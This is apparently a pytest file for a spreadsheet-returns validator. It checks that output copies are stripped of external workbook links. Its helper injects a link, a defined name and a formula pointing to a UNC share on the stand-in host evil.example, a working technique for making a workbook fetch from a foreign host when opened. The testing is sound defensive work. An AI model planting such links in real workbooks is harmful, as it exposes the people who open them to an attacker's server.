"""Copies kpd-returns sends back (annotated, fixed totals, rejected copies) keep no link to another
workbook (issue 19 item 17): opening one must not fetch a file from a host nobody here chose. A formula
that read the other workbook keeps its last value; a name that pointed there is removed."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
from typer.testing import CliRunner

from kpd_returns.cli.main import app
from kpd_returns.spec.return_spec import get_spec
from test_consolidate_gen import patch

SAMPLE = Path(__file__).resolve().parents[1] / "samples" / "returns" / "mmir-northbridge-employment-ltd-2026-09.xlsx"
HOST = "evil.example"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def with_external_link(data: bytes) -> bytes:
    """``data`` with a link to \\\\evil.example\\share\\book.xlsx: the external link part, its relationship,
    the workbook's list of external references, a defined name into it, and a cell formula reading it."""
    src = zipfile.ZipFile(io.BytesIO(data))
    parts = {n: src.read(n) for n in src.namelist()}
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.openxmlformats.'
        b'org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet>'
        b'<sheetData sheetId="0"><row r="1"><cell r="A1"><v>5</v></cell></row></sheetData></sheetDataSet>'
        b'</externalBook></externalLink>')
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="' + RT.encode()
        + b'externalLinkPath" Target="file:///\\\\' + HOST.encode() + b'\\share\\book.xlsx" TargetMode="External"/>'
        b'</Relationships>')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdX1" Type="' + RT.encode()
        + b'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
    wb = parts["xl/workbook.xml"]
    assert b"</sheets><definedNames>" in wb, "test setup: the sample's workbook part has changed"
    parts["xl/workbook.xml"] = wb.replace(b"</sheets><definedNames>", (
        b'</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences><definedNames>'
        b'<definedName name="Outside">[1]Sheet1!$A$1</definedName>'))
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", (
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.externalLink+xml"/></Types>'))
    cover = parts["xl/worksheets/sheet1.xml"]
    assert b"</sheetData>" in cover and b'r="1000"' not in cover
    parts["xl/worksheets/sheet1.xml"] = cover.replace(
        b"</sheetData>", b'<row r="1000"><c r="Z1000"><f>[1]Sheet1!A1*2</f><v>10</v></c></row></sheetData>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for name, body in parts.items():
            out.writestr(name, body)
    return buf.getvalue()


def assert_no_link(copy: Path) -> None:
    with zipfile.ZipFile(copy) as z:
        assert not [n for n in z.namelist() if "externallink" in n.lower()], z.namelist()
        for name in z.namelist():
            body = z.read(name)
            assert HOST.encode() not in body and b"externalReference" not in body, name
            assert not re.search(rb"<f>[^<]*\[1\]", body), name
    wb = openpyxl.load_workbook(copy)
    assert wb["Cover"]["Z1000"].value == 10  # the value it last had, as a plain value
    assert "Outside" not in wb.defined_names


def test_annotated_and_fixed_copies_keep_no_external_link(tmp_path):
    source = tmp_path / "mmir-linked.xlsx"
    source.write_bytes(with_external_link(SAMPLE.read_bytes()))
    assert HOST.encode() in zipfile.ZipFile(source).read("xl/externalLinks/_rels/externalLink1.xml.rels")
    for option, out in (("--annotate", tmp_path / "annotated.xlsx"), ("--fix-totals", tmp_path / "fixed.xlsx")):
        result = CliRunner().invoke(app, ["validate", str(source), option, str(out), "--as-of", "2026-10-05"])
        assert result.exit_code in (0, 1) and out.exists(), result.output
        assert_no_link(out)


def test_a_rejected_copy_keeps_no_external_link(tmp_path):
    bad = patch(SAMPLE.read_bytes(), get_spec("mmir"), {("referrals", "in_month"): "n/a"})
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "mmir-linked.xlsx").write_bytes(with_external_link(bad))
    result = CliRunner().invoke(app, ["consolidate", str(inbox), "--out", str(tmp_path / "out"), "--no-packs",
                                      "--as-of", "2026-10-20"])
    assert result.exit_code == 1 and "REJECTED" in result.output, result.output
    (copy,) = (tmp_path / "out" / "rejected").glob("*.annotated.xlsx")
    assert_no_link(copy)
